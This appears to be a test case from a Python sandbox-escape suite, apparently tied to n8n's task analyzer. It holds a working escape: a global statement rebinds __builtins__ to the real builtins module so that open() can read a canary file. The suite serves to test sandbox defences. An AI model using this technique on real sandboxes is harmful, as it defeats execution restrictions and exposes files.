# id: global-statement-rebinds-builtins
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: n8n's task analyzer checks global statements
# technique: functions take their builtins from the name __builtins__ in the globals when they are made, and that name can be bound anew
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary


def widen():
    global __builtins__
    __builtins__ = print.__self__


widen()


def later():
    return open("canary.txt").read()


print(later())
